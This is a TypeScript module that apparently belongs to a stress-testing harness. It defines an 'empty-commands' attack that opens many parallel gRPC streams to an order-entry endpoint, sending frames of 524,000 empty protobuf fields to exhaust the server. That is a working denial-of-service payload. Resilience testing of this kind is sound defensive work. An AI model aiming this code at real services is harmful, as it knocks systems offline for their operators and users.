import { type Attack, inParallel, untilAborted } from './attack.ts';
import { bearer, callGrpc, envelope } from './attacker.ts';

const COMMANDS = 524_000;
/** A command that says nothing: field 1 of a frame, no bytes. */
const FRAME = envelope(Buffer.alloc(2 * COMMANDS, Buffer.from([0x0a, 0x00])));
const AT_ONCE = 2;

/** Each costs a stream, which the first frame ends. */
export const emptyCommands: Attack = {
  name: 'empty-commands',
  what: 'order-entry frames of 524,000 empty commands',
  size: { small: 2, large: 500 },
  repeats: true,
  async run(attacker, size, signal) {
    const session = attacker.open();
    const calls = inParallel(size, AT_ONCE, signal, async () => {
      const stream = callGrpc(session, {
        path: '/redleaf.v1.OrderService/OrderEntry',
        headers: bearer(attacker.token),
      });
      await new Promise((turn) => setImmediate(turn));
      if (stream === undefined) return;
      const over = attacker.tally.watch(stream.resume());
      // It is closed when both sides have said that they are done.
      stream.once('end', () => stream.end());
      stream.write(FRAME);
      await untilAborted(over, signal);
    });
    await untilAborted(calls, signal);
    session.destroy();
  },
};
